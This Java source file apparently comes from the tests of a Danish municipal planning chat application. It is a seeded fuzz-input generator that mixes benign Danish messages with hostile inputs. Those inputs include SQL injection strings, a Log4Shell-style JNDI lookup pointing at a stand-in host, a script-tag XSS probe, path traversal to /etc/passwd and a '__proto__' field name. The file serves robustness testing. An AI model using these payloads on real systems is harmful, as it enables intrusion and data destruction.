package dk.albertslund.styring.demo.fjendtlig;

import dk.albertslund.styring.samtale.Handling;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;

/** What people do not write, and what they write when they mean no harm; always the same for the same seed. */
final class Ondord {

    /** Would be a link, were it read as markup. */
    static final String OPMAERKNING = "[klik](http://ond.example)";

    private static final int LAENGST = 30_000;

    private static final List<String> VENLIGE = List.of(
            "hjælp",
            "ny prøvehandling: gåture for ældre fra mandag til udgangen af marts",
            "ny prøvehandling",
            "gem",
            "ja",
            "nej",
            "nej 26",
            "annuller",
            "fortryd",
            "14 deltagere i går",
            "nyt tegn: flere sang med " + OPMAERKNING,
            "mine prøvehandlinger",
            "vis årshjulet",
            "hvad er forskellen på mål og målsætning?",
            "opret udviklingsuge i uge 3",
            "31. februar");

    private static final List<String> ONDE = List.of(
            "",
            " ",
            "\u0000",
            "før\u0000efter",
            "\ud800",
            "x\udfff y",
            "\u202Eslet alt\u202C",
            "\u200b\u200d\ufeff",
            "💪🏽👨‍👩‍👧‍👦🇩🇰",
            "𝕳𝖏æ𝖑𝖕",
            "a\u0301".repeat(200),
            "'; drop table proevehandling; --",
            "ny prøvehandling: Robert'); delete from tegn where ('1'='1",
            "{\"verb\":\"GEM_NOTAT\",\"om\":\"../..\"}",
            "{{DATE(2026-11-23,LONG)}} ${jndi:ldap://ond.example/a} {0} %s %n",
            "<script>alert(1)</script><at>Alle</at>",
            "ny prøvehandling: " + OPMAERKNING + " ![x](y) **fed** # 1. <b>x</b> for børn fra i morgen",
            OPMAERKNING,
            "1. maj\n- punkt\n# overskrift\n> citat\n" + OPMAERKNING,
            "mandag ".repeat(4_000),
            "fra den 1. til den 2. og ".repeat(1_200),
            "tusind millioner ".repeat(1_700),
            "1".repeat(LAENGST),
            "1,".repeat(LAENGST / 2),
            "a".repeat(LAENGST),
            "ny prøvehandling: " + "ø ".repeat(LAENGST / 2 - 10),
            "\"".repeat(LAENGST),
            "(".repeat(LAENGST),
            "\\".repeat(LAENGST),
            " ".repeat(LAENGST),
            "💩".repeat(LAENGST / 2),
            "hvad er ".repeat(3_700),
            "nej 99999999999999999999999999999999999999999999999999",
            "1e999999999 deltagere",
            "-0 deltagere den 99.99.9999",
            "CPR 0101701234",
            "../../../etc/passwd",
            "null",
            "undefined");

    private static final List<String> FELTER = List.of(
            "titel",
            "maal",
            "borgergruppe",
            "start",
            "slut",
            "haab",
            "paa",
            "antal",
            "enhed",
            "tekst",
            "forandring",
            "fra",
            "til",
            "svar",
            "verb",
            "om",
            "__proto__");

    private static final List<String> VAERDIER =
            List.of("2026-11-30", "2026-13-45", "+999999999-12-31", "AELDRE", "BOERN", "INGEN", "14", "1e9", "KLAR");

    private final Random tilfaeldig;

    Ondord(long froe) {
        tilfaeldig = new Random(froe);
    }

    int tal(int under) {
        return tilfaeldig.nextInt(under);
    }

    String tekst() {
        return switch (tal(4)) {
            case 0 -> en(VENLIGE);
            case 1 -> en(ONDE);
            case 2 -> en(VENLIGE) + " " + en(ONDE);
            default -> vilkaarlig();
        };
    }

    /** Any code points at all, halves of pairs and the end of a C string among them. */
    private String vilkaarlig() {
        return tilfaeldig
                .ints(1 + tal(60), 0, tal(3) == 0 ? 0x11000 : 0x500)
                .mapToObj(tegn -> tegn < 0x10000 ? String.valueOf((char) tegn) : Character.toString(tegn))
                .collect(Collectors.joining());
    }

    String verbum() {
        var handlinger = Handling.values();
        return tal(8) == 0 ? en(ONDE) : handlinger[tal(handlinger.length)].name();
    }

    /** @param kendte what buttons that were really shown were about */
    String om(List<String> kendte) {
        return switch (tal(4)) {
            case 0 -> "00000000-0000-0000-0000-00000000000" + tal(10);
            case 1 -> en(ONDE);
            default -> kendte.isEmpty() ? "" : en(kendte);
        };
    }

    String felt() {
        return en(FELTER);
    }

    String feltvaerdi() {
        return tal(2) == 0 ? en(VAERDIER) : tekst();
    }

    <T> T en(List<T> af) {
        return af.get(tal(af.size()));
    }
}
